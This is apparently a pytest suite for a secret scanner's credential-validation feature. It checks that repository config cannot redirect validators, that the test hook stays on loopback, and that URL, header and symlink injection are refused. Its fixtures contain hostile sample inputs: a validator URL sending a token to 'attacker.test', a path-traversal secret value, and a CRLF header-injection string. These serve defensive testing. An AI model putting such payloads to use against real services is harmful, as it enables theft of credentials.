"""A secret goes only to its validator's documented host: nothing in a repository can point a
validator elsewhere, the test hook is loopback-only and refused in CI, values cannot bend URLs,
and requests are bounded (per-provider rate, concurrency)."""
from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from secretshift.cli import main
from secretshift.errors import FatalError
from secretshift.validate.cache import FILE, KEY_FILE, ResultCache
from secretshift.validate.http import Credential, HttpChecker, Outcome, fill_url
from secretshift.validate.registry import load_validators
from secretshift.validate.runner import RateLimiter, ValidateOptions, validate_findings
from secretshift.validate.safety import TEST_URL_ENV, test_base_url
from secretshift.validate.spec import parse_spec
from tests.fakes import github_token
from tests.validate.providers import MockProviders

VALIDATORS = load_validators()


def _repo(tmp_path: Path, config: str) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "deploy.env").write_text(f"GITHUB_TOKEN={github_token(11)}\n")
    (root / ".secretshift.toml").write_text(config)
    return root


@pytest.mark.parametrize("config", [
    # A repository rule carrying its own validator.
    '[[rules]]\nid = "corp-token"\ndescription = "x"\nkeywords = ["ghp_"]\nregex = \'\'\'(?P<secret>ghp_[0-9A-Za-z]{36})\'\'\'\n'
    '[rules.validation]\nhosts = ["attacker.test"]\nurl = "https://attacker.test/collect?t={secret}"\n'
    'revoke = "https://attacker.test"\nvalid = { status = [200] }\n',
    # A setting that would move the built-in validators.
    'validate = { base_url = "http://127.0.0.1:9/" }\n',
    '[validation]\n"github-token" = { url = "https://attacker.test/collect" }\n',
])
def test_repository_config_cannot_point_a_validator_anywhere(config: str, providers: MockProviders,
                                                             tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    root = _repo(tmp_path, config)
    monkeypatch.chdir(root)
    assert main(["scan", "--no-git", "--validate", "."]) == 2
    assert providers.seen == []
    assert github_token(11) not in capsys.readouterr().err


def test_a_rule_pack_named_by_the_config_cannot_carry_a_validator(providers: MockProviders, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    root = _repo(tmp_path, 'rule_files = ["corp-rules.toml"]\n')
    (root / "corp-rules.toml").write_text(
        'provider = "Corp"\n[[rules]]\nid = "github-token"\ndescription = "x"\nkeywords = ["ghp_"]\n'
        "regex = '''(?P<secret>ghp_[0-9A-Za-z]{36})'''\n"
        '[rules.validation]\nhosts = ["attacker.test"]\nurl = "https://attacker.test/{secret}"\n'
        'revoke = "https://attacker.test"\n'
    )
    monkeypatch.chdir(root)
    assert main(["scan", "--no-git", "--validate", "."]) == 2
    assert "only allowed in secretshift's built-in rule packs" in capsys.readouterr().err
    assert providers.seen == []


def test_the_validators_are_the_built_in_ones_whatever_the_repository_holds(providers: MockProviders, tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch,
                                                                            capsys: pytest.CaptureFixture[str]) -> None:
    """A repository with its own rules (no validation) still gets only the packs' hosts."""
    root = _repo(tmp_path, '[[rules]]\nid = "corp-token"\ndescription = "corp"\nkeywords = ["corp_"]\n'
                           "regex = '''(?P<secret>corp_[0-9a-z]{24})'''\n")
    (root / "app.env").write_text("CORP_TOKEN=corp_" + "k3j9x0q2m7v5b8n1c4z6l0p2" + "\n")
    monkeypatch.chdir(root)
    providers.valid.add(github_token(11))
    assert main(["scan", "--no-git", "--validate", "--format", "json", "."]) == 1
    assert {s.host for s in providers.seen} == {"api.github.com"}
    assert "corp-token" in capsys.readouterr().out  # reported, with no validator: unknown


@pytest.mark.parametrize("value, message", [
    ("http://10.1.2.3:8080", "loopback"),
    ("http://attacker.test", "loopback"),
    ("http://127.0.0.1:8080/api.github.com", "base URL"),
    ("ftp://127.0.0.1:21", "base URL"),
])
def test_the_test_hook_accepts_only_a_loopback_base(value: str, message: str) -> None:
    with pytest.raises(FatalError, match=message):
        test_base_url({TEST_URL_ENV: value})
    assert test_base_url({TEST_URL_ENV: "http://127.0.0.1:8080"}) == "http://127.0.0.1:8080"
    assert test_base_url({TEST_URL_ENV: "http://[::1]:8080/"}) == "http://[::1]:8080"


def test_the_test_hook_is_refused_in_ci(providers: MockProviders, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    root = _repo(tmp_path, "")
    monkeypatch.chdir(root)
    monkeypatch.setenv("CI", "true")
    assert main(["scan", "--no-git", "--validate", "."]) == 2
    assert "refused when CI is set" in capsys.readouterr().err
    assert providers.seen == []


@pytest.mark.parametrize("table, message", [
    ({"hosts": ["api.github.com"], "url": "http://api.github.com/user"}, "https URL"),
    ({"hosts": ["api.github.com"], "url": "https://api.github.com.attacker.test/user"}, "not in `validation.hosts`"),
    ({"hosts": ["api.github.com"], "url": "https://{secret}.api.github.com/"}, "plainly"),
    ({"hosts": ["api.github.com"], "url": "https://user@api.github.com/"}, "plainly"),
    ({"hosts": ["api.github.com"], "url": "https://api.github.com:8443/"}, "plainly"),
    ({"hosts": ["*"], "url": "https://api.github.com/"}, "host names"),
    ({"hosts": ["api.github.com"], "url": "https://api.github.com/", "revoke": "http://x"}, "revoke"),
    ({"hosts": ["api.github.com"], "url": "https://api.github.com/", "exfiltrate": True}, "unknown validation field"),
])
def test_a_pack_validator_must_name_an_allowed_https_host(table: dict[str, object], message: str) -> None:
    table = {"revoke": "https://docs.example.test/revoke", **table}
    with pytest.raises(FatalError, match=message):
        parse_spec(table, "r", "P", "plugins/rules/x.toml: rule 'r'")


def test_values_cannot_bend_the_url() -> None:
    secret = "123:abc/../../@attacker.test?x=#frag"
    url = fill_url("https://api.telegram.org/bot{secret}/getMe", Credential(secret))
    assert url.startswith("https://api.telegram.org/bot123:abc%2F..%2F..%2F%40attacker.test%3Fx%3D%23frag/getMe")
    spec = VALIDATORS["shopify-access-token"]
    checker = HttpChecker(timeout=1.0, test_base=None)
    for shop in ("attacker.test#", "attacker.test/x", "a.b", "attacker.test:443"):
        outcome = checker.check(spec, Credential("shpat_" + "0" * 32, near=(("shop", shop),)))
        assert outcome.status == "error" and outcome.reason.startswith("refused:"), (shop, outcome)


def test_each_provider_is_rate_limited_on_its_own() -> None:
    limiter = RateLimiter()
    start = time.monotonic()
    for _ in range(3):
        limiter.wait("api.github.com", 4.0)
    limiter.wait("slack.com", 4.0)
    elapsed = time.monotonic() - start
    assert 0.45 <= elapsed < 0.9, elapsed  # two waits of 0.25 s for GitHub, none for Slack


def test_concurrency_is_bounded(providers: MockProviders) -> None:
    from secretshift.models import Finding, SecretValue

    providers.mode, providers.delay = "slow", 0.2
    findings = [Finding(rule=rule, description="", path="x", line=i, column=1, end_line=i, end_column=2,
                        secret=SecretValue(f"token-{i}"), secret_hash=f"h{i}") for i, rule in enumerate(
        ["openai-api-key", "sendgrid-api-key", "npm-access-token", "huggingface-token", "digitalocean-pat",
         "heroku-api-key", "notion-integration-token", "discord-bot-token", "groq-api-key", "supabase-access-token"])]
    validate_findings(findings, ValidateOptions(concurrency=3, cache_ttl=0), notice=lambda _: None,
                      validators=VALIDATORS)
    assert 1 <= providers.max_in_flight <= 3


def test_the_cache_file_is_private_and_never_written_through_a_symlink(tmp_path: Path) -> None:
    folder = tmp_path / "cache"
    folder.mkdir()
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text("keep me")
    (folder / FILE).symlink_to(elsewhere)
    cache = ResultCache(folder, ttl=60)
    key = cache.key("GET https://api.github.com/user", Credential(github_token(12)))
    cache.put(key, Outcome("valid", "ok", (("login", "octo"),)))
    cache.save()
    assert elsewhere.read_text() == "keep me"
    assert not (folder / FILE).is_symlink()
    for name in (FILE, KEY_FILE):
        assert stat.S_IMODE(os.stat(folder / name).st_mode) == 0o600
    assert ResultCache(folder, ttl=60).get(key) == Outcome("valid", "ok", (("login", "octo"),))
    assert ResultCache(folder, ttl=0).get(key) is None  # a TTL of 0 turns the cache off


def test_a_secret_the_check_cannot_judge_is_unknown_and_never_sent(providers: MockProviders) -> None:
    from secretshift.models import Finding, SecretValue

    refresh = "ghr_" + github_token(13)[4:]  # a refresh token: /user cannot tell whether it works
    finding = Finding(rule="github-token", description="", path="x", line=1, column=1, end_line=1, end_column=2,
                      secret=SecretValue(refresh), secret_hash="h")
    (checked,) = validate_findings([finding], ValidateOptions(cache_ttl=0), notice=lambda _: None,
                                   validators=VALIDATORS)
    assert checked.validation is not None and checked.validation.status == "unknown"
    assert "refresh token" in checked.validation.reason
    assert providers.seen == []


def test_jobs_are_interleaved_across_providers() -> None:
    from secretshift.validate.runner import _Job, interleaved

    spec = VALIDATORS["github-token"]
    jobs = {f"{host}-{i}": _Job(spec, Credential(f"s{i}"), host) for host in ("a", "b") for i in range(3)}
    assert interleaved(jobs) == ["a-0", "b-0", "a-1", "b-1", "a-2", "b-2"]


def test_reading_urls_and_near_values_from_a_hostile_file_is_linear() -> None:
    from secretshift.validate.runner import near_values, url_around

    line = "a" * 1_000_000 + "://" + "b" * 1_000_000
    start = time.monotonic()
    assert url_around(line, "secret") is None
    near_values(VALIDATORS["atlassian-api-token"], ("jira_email=" + "x" * 200_000 + "\n") * 5, 1)
    assert time.monotonic() - start < 5


def test_a_value_cannot_add_headers(providers: MockProviders) -> None:
    spec = VALIDATORS["github-token"]
    outcome = HttpChecker(timeout=1.0, test_base=None).check(spec, Credential("ghp_x\r\nX-Forwarded-Host: attacker.test"))
    assert outcome.status == "error" and "not sent" in outcome.reason


def test_a_private_registry_token_is_not_sent_to_npm(providers: MockProviders) -> None:
    from secretshift.models import Finding, SecretValue

    text = "registry=https://npm.corp.test/\n//npm.corp.test/:_authToken=" + "c0rp" * 8 + "\n"
    finding = Finding(rule="npmrc-auth-token", description="", path=".npmrc", line=2, column=30, end_line=2,
                      end_column=62, secret=SecretValue("c0rp" * 8), secret_hash="h")
    (checked,) = validate_findings([finding], ValidateOptions(cache_ttl=0), text_of=lambda _: text,
                                   notice=lambda _: None, validators=VALIDATORS)
    assert checked.validation is not None and checked.validation.status == "unknown"
    assert "registry" in checked.validation.reason and providers.seen == []
